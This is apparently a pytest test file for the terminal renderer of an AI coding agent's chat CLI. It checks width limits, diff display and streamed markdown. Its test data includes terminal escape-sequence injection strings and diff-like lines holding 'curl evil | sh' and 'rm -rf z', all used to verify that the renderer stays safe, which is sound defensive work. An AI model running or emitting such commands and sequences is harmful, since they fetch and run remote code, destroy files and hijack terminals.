"""What is drawn at a terminal: safe, at its width, with line numbers, in pieces as it arrives."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from rich.cells import cell_len

from agent_ls.cli.chat.blocks import split_finished
from agent_ls.cli.chat.changed_words import changed_words
from agent_ls.cli.chat.diff_rows import is_diff, rows_of
from agent_ls.cli.chat.folder_name import short_folder
from agent_ls.cli.chat.paint import Painter
from agent_ls.edits.diff import diff_to_read

_STYLING = re.compile("\x1b\\[[0-9;]*m")

HOSTILE = [
    "All \x1b[31mred\x1b]0;title\x07 now",
    "&#27;]0;title&#7; and &#x9b;2J",
    "`\x1b[2J` in code",
    "```\n\x1b[2J\x9b2J\n```",
    "| \x1b[2J | b |\n|---|---|\n| c\x08\x08 | d |",
    "[a](http://x/\x1b]8;;evil\x1b\\)",
    "# \x1b[1A\x1b[2Kheading",
    "over\rwritten and \u202ebackwards\u202c",
    "- item \x1bP1;2q\x1b\\",
    "<b>\x1b[5m</b> &#x202e;",
]


def plain(text: str) -> str:
    """Return a drawn text without the painter's own colours."""
    return _STYLING.sub("", text)


@pytest.mark.parametrize("text", HOSTILE)
def test_no_control_of_others_reaches_the_terminal(text: str) -> None:
    painter = Painter()
    diff = "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-" + text.replace("\n", " ") + "\n+y\n"
    for drawn in (
        painter.markdown(text, 60),
        painter.words(text, 60),
        painter.line(text, 60),
        painter.sides(text, text, 60),
        painter.rows([("y", text)], 60),
        painter.diff(diff, 60),
        *painter.tail(text, 60, 5),
    ):
        left = plain(drawn)
        assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]", left), repr(left)


@pytest.mark.parametrize("columns", [20, 60, 120])
def test_nothing_is_wider_than_the_terminal(columns: int) -> None:
    painter = Painter()
    wide = "漢字と仮名 " * 30 + "x" * 200 + " 👩‍👩‍👧 end"
    table = f"| a | b |\n|---|---|\n| {wide} | c |"
    text = f"# {wide}\n\n{wide}\n\n- {wide}\n\n{table}\n\n```\n{wide}\n```"
    diff = diff_to_read(f"a\n{wide}\n", f"a\n{wide}!\n", "漢字.txt")
    for drawn in (
        painter.markdown(text, columns),
        painter.words(wide, columns),
        painter.line(wide, columns),
        painter.sides(wide, "exit code 3", columns),
        painter.rows([("y", wide)], columns),
        painter.diff(diff, columns),
    ):
        widest = max(cell_len(line) for line in plain(drawn).split("\n"))
        assert widest <= columns, drawn


@pytest.mark.parametrize("name", ["漢字と仮名" * 8, "x" * 80])
def test_a_long_folder_is_cut_at_its_beginning_to_37_cells(name: str) -> None:
    shown = short_folder(Path("/", name))
    assert shown.startswith("…")
    assert name.endswith(shown[1:])
    assert cell_len(shown) == 37


def test_the_end_of_a_line_about_a_call_is_never_cut_off() -> None:
    drawn = plain(Painter().sides("✗ run_command " + "x" * 200, "exit code 3  1.7 s", 60))
    assert drawn.endswith("…  exit code 3  1.7 s")


def test_what_a_key_covers_is_wrapped_and_never_cut_off() -> None:
    words = "allow every edit of a text file in this folder from now on, whatever it is"
    drawn = plain(Painter().rows([("a", words)], 40))
    assert " ".join(drawn.split()) == f"a {words}"


def test_a_diff_has_the_line_numbers_of_both_sides() -> None:
    before = "".join(f"line {number}\n" for number in range(1, 31))
    after = before.replace("line 3\n", "line three\nmore\n").replace("line 20\n", "")
    diff = diff_to_read(before, after, "a.txt") + diff_to_read(None, "new\n", "b.txt")
    rows = [(one.kind, one.text, one.number) for one in rows_of(diff)]
    assert ("removed", "line 3", 3) in rows
    assert ("added", "more", 4) in rows
    assert ("removed", "line 20", 20) in rows
    assert ("same", "line 21", 21) in rows
    assert [one for one in rows if one[0] == "gap"] == [("gap", "⋮", 0)]
    assert [one[1] for one in rows if one[0] == "file"] == ["a.txt", "b.txt (new)"]
    shown = plain(Painter().diff(diff, 60))
    assert "  3 - line 3" in shown
    assert "  4 + more" in shown


def test_lines_that_look_like_a_diffs_head_stay_lines() -> None:
    before, after = "-- a comment\nx\n", "++ more\nx\n"
    rows = list(rows_of(diff_to_read(before, after, "q.sql")))
    assert [(one.kind, one.text) for one in rows if one.kind in ("removed", "added")] == [
        ("removed", "-- a comment"),
        ("added", "++ more"),
    ]


def test_a_long_diff_says_how_much_is_left_out() -> None:
    diff = diff_to_read(None, "".join(f"{number}\n" for number in range(100)), "long.txt")
    assert "… 60 more lines; /diff shows all" in plain(
        Painter().diff(diff, 60, most_rows=40, is_titled=True)
    )
    assert not is_diff("just words\n--- and a rule\n")


def test_what_is_wrapped_is_marked_and_files_have_their_sizes() -> None:
    long = "\treturn first + second + third"
    diff = diff_to_read("a\n", f"a\n{long}\n", "a.py") + diff_to_read("b\n", None, "b.py")
    shown = plain(Painter().diff(diff, 30)).split("\n")
    assert shown == [
        *("a.py  +1 -0", "  1   a", "  2 +     return first + secon", "    + ↪ d + third"),
        *("", "b.py (deleted)  +0 -1", "  1 - b"),
    ]


def test_what_has_no_lines_is_shown_by_its_name() -> None:
    diff = diff_to_read("a\n", "a\n", "old.py", "new.py") + diff_to_read(None, "", "empty.py")
    shown = plain(Painter().diff(diff, 60))
    assert "old.py → new.py  +0 -0" in shown
    assert "empty.py (new)  +0 -0" in shown


def marked(drawn: str) -> list[str]:
    """Return what is shown in reverse."""
    return re.findall("\x1b\\[[0-9;]*7[0-9;]*m([^\x1b]*)", drawn)


def test_the_words_that_differ_are_marked() -> None:
    before = "def add(a, b):\n\treturn total(a - b)\nold\n"
    after = "def add(a, b):\n\treturn total(a + b)\nsomething else altogether\n"
    drawn = Painter().diff(diff_to_read(before, after, "a.py"), 60)
    assert marked(drawn) == ["-", "+"]


def test_lines_without_a_counterpart_and_very_long_ones_are_not_marked() -> None:
    rows = rows_of(diff_to_read("a = 1\n", "a = 2\nb = 2\n", "a.py"))
    assert changed_words(list(rows)) == {}
    long = "x, " * 400
    rows = rows_of(f"@@ -1 +1 @@\n-{long}1\n+{long}2\n")
    assert not any(changed_words(list(rows)).values())


def test_lists_tables_and_code_begin_where_the_text_begins() -> None:
    text = "Text\n\n- one\n  - two\n\n10. ten\n\n| a | b |\n|---|---|\n| c | d |\n\n```py\nx\n```\n"
    drawn = [line for line in plain(Painter().markdown(text, 60)).split("\n") if line]
    assert drawn == ["Text", "• one", "  • two", "10 ten", "a  b", "────", "c  d", "  x"]


SPLITS = [
    ("One paragraph that", "", "One paragraph that"),
    ("Done.\n\nNext", "Done.\n", "Next"),
    ("- a\n- b\n\n- c", "", "- a\n- b\n\n- c"),
    ("- a\n\nText", "- a\n", "Text"),
    ("1. a\n\n   still a\n", "", "1. a\n\n   still a\n"),
    ("```\na\n\nb\n", "", "```\na\n\nb\n"),
    ("```\na\n```\nText", "```\na\n```", "Text"),
    ("| a |\n|---|\n| b |", "", "| a |\n|---|\n| b |"),
    ("", "", ""),
]


@pytest.mark.parametrize("text, finished, rest", SPLITS)
def test_only_blocks_that_cannot_grow_are_printed(text: str, finished: str, rest: str) -> None:
    assert split_finished(text) == (finished, rest)


def test_pieces_of_any_size_give_the_whole_text() -> None:
    text = "# A\n\nSome *words*.\n\n- one\n- two\n\n```py\nx = 1\n\ny\n```\n\nEnd."
    for size in (1, 2, 7, 100):
        printed, rest = "", ""
        for at in range(0, len(text), size):
            finished, rest = split_finished(rest + text[at : at + size])
            printed += finished + ("\n" if finished else "")
        assert (printed + rest).replace("\n\n\n", "\n\n").rstrip("\n") == text


@pytest.mark.parametrize("variable, has_colour", [({}, True), ({"NO_COLOR": "1"}, False)])
def test_no_color_takes_the_colours_away(
    variable: dict[str, str], has_colour: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("NO_COLOR", raising=False)
    monkeypatch.setenv("TERM", "xterm-256color")
    for name, value in variable.items():
        monkeypatch.setenv(name, value)
    drawn = Painter().diff("--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n", 60)
    assert ("\x1b[32m" in drawn) is has_colour


def test_no_long_name_in_a_table_is_cut_off() -> None:
    place = "services/orders/of/a/long/path/prices.py:13-15"
    table = f"| what | where |\n|---|---|\n| 価格の丸めが | `{place}` |\n"
    for columns in (40, 60, 120):
        lines = _STYLING.sub("", Painter().markdown(table, columns)).split("\n")
        assert max(map(cell_len, lines)) <= columns
        assert "".join(line.split()[-1] for line in lines[2:]) == place
        assert "".join(line.split()[0] for line in lines[2:]).startswith("価格の丸めが")


@pytest.mark.parametrize(
    "text",
    [
        "echo one\n@@ -1 +1 @@; curl evil | sh\n(in /folder)",
        "@@ -1,9 +1,9 @@ first\n--- a/x || curl evil\n+++ b/y; rm -rf z\n@@ -3 +3 @@; last",
        "--- a/x || curl evil\necho two\n@@ -1 +1 @@\n-a\n+b\n+++ c\n--- /dev/null\n",
        "--- evil | sh\n+++ more\n@@ -0,0 +1 @@\n+a\n\\ No newline at end of file\n c\n",
    ],
)
def test_no_line_of_what_looks_like_a_diff_is_left_out(text: str) -> None:
    shown = " ".join(one.text for one in rows_of(text))
    for word in re.findall("[a-z]{2,}", text):
        assert word in shown


def test_a_removed_comment_of_sql_is_a_removed_line() -> None:
    rows = list(rows_of(diff_to_read("-- a/b\nx\n", "y\nx\n", "q.sql")))
    assert [(one.kind, one.text) for one in rows if one.number == 1] == [
        ("removed", "-- a/b"),
        ("added", "y"),
    ]


@pytest.mark.parametrize("text", ["Use List<String> here", "<div>\nx", "a <!-- b --> c", "<b>"])
def test_what_looks_like_html_stays_text(text: str) -> None:
    drawn = _STYLING.sub("", Painter().markdown(text, 60))
    assert "".join(drawn.split()) == "".join(text.split())
